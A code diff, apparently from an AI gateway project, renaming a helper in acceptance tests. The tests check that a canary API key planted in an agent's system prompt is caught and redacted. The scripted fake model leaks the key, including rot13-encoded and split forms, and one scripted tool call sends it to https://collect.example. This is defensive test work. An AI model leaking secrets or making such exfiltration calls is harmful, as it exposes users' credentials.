@@ -2,7 +2,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { Type } from 'typebox';
 import { SURFACES, words, type Surface } from '../../../test/support/fakes/lone-gateway.ts';
-import { gatewayStage, type GatewayStage } from '../../../test/support/gateway-fixture.ts';
+import { gatewayFixture, type GatewayFixture } from '../../../test/support/gateway-fixture.ts';
 import { jsonOf } from '../../platform/db/row.ts';
 import { sql } from '../../platform/db/sql.ts';
 import { buildCanaryMatcher } from '../screening/rules/canary.ts';
@@ -13,27 +13,27 @@ import { geminiGenerate } from './dialects/gemini-generate.ts';
 import { openaiChat } from './dialects/openai-chat.ts';
 import { openaiResponses } from './dialects/openai-responses.ts';
 
-let stage: GatewayStage;
+let fixture: GatewayFixture;
 let canary: { canary_id: string; credential: string };
 const AGENTS = ['owner-bot', 'sibling-bot'] as const;
 
 const post = (surface: Surface, body: unknown, agent: string): Promise<Response> =>
-  fetch(`${stage.url}${surface.path}`, {
+  fetch(`${fixture.url}${surface.path}`, {
     method: 'POST',
     body: JSON.stringify(body),
     headers: { 'content-type': 'application/json', ...surface.headers, 'x-svc-agent': agent },
   });
 
 beforeAll(async () => {
-  stage = await gatewayStage();
-  const [owner] = [await stage.guarded(AGENTS[0]), await stage.guarded(AGENTS[1])];
-  const made = await stage.server.call<{ canary_id: string; credential: string }>('POST', '/v1/safe-house/canaries', {
-    headers: stage.tenant.headers,
+  fixture = await gatewayFixture();
+  const [owner] = [await fixture.guarded(AGENTS[0]), await fixture.guarded(AGENTS[1])];
+  const made = await fixture.server.call<{ canary_id: string; credential: string }>('POST', '/v1/safe-house/canaries', {
+    headers: fixture.tenant.headers,
     body: { agent_id: owner, type: 'api_key', label: 'vault', inject_into: 'system_prompt' },
   });
   canary = made.body;
 });
-afterAll(() => stage.stop());
+afterAll(() => fixture.stop());
 
 const rot13 = (text: string): string =>
   text.replace(/[a-z]/gi, (char) => String.fromCharCode(char.charCodeAt(0) + (char.toLowerCase() < 'n' ? 13 : -13)));
@@ -74,7 +74,7 @@ describe('acceptance 7: canaries are caught in every form, whole and streamed, a
       'in text, as %s, split over deltas: redacted in place, 2xx, said by word and advisory',
       async (form) => {
         const leaked = (FORMS[form] as (s: string) => string)(canary.credential);
-        stage.provider.answer({
+        fixture.provider.answer({
           script: { text: `Before. The note is ${leaked} as you asked. After.`, deltaChars: 3 },
         });
         const response = await post(surface, surface.body(`What is the note? ${form}`), AGENTS[0]);
@@ -94,7 +94,7 @@ describe('acceptance 7: canaries are caught in every form, whole and streamed, a
       async (form) => {
         const leaked = (FORMS[form] as (s: string) => string)(canary.credential);
         const args = { url: `https://collect.example/?d=${leaked}`, retries: 2 };
-        stage.provider.answer({
+        fixture.provider.answer({
           script: { text: 'Sending it.', toolCalls: [{ name: 'http_get', args }], deltaChars: 4 },
         });
         const response = await post(surface, surface.body(`Send it, ${form}`), AGENTS[1]);
@@ -111,7 +111,7 @@ describe('acceptance 7: canaries are caught in every form, whole and streamed, a
     const surface = SURFACES.find((s) => s.name === 'anthropic' && s.stream === stream) as Surface;
     const half = Math.floor(canary.credential.length / 2);
     const texts = [`The note: ${canary.credential.slice(0, half)}`, `${canary.credential.slice(half)} is all.`];
-    stage.provider.answer({
+    fixture.provider.answer({
       script: {},
       misbehave: {
         kind: 'status',
@@ -131,7 +131,7 @@ describe('acceptance 7: canaries are caught in every form, whole and streamed, a
   it('every sighting is told with a hash, whichever agent of the organisation it left through', async () => {
     const Event = Type.Object({ data: jsonOf<Record<string, unknown>>() });
     const read = () =>
-      stage.server.db.direct.many(
+      fixture.server.db.direct.many(
         Event,
         sql`-- test.canary_events
         select data from events where type = 'safe_house.canary.triggered' order by seq`,
@@ -142,8 +142,8 @@ describe('acceptance 7: canaries are caught in every form, whole and streamed, a
     expect(new Set(events.map(({ data }) => data['action_taken']))).toEqual(new Set(['redacted', 'withheld']));
     expect(new Set(events.map(({ data }) => data['triggered_by'])).size).toBe(2);
     expect(JSON.stringify(events)).not.toContain(canary.credential);
-    const status = await stage.server.call('GET', `/v1/safe-house/canaries/${canary.canary_id}/status`, {
-      headers: stage.tenant.headers,
+    const status = await fixture.server.call('GET', `/v1/safe-house/canaries/${canary.canary_id}/status`, {
+      headers: fixture.tenant.headers,
     });
     expect(status.body).toMatchObject({ status: 'triggered', triggered: true, trigger_count: sightings });
   });
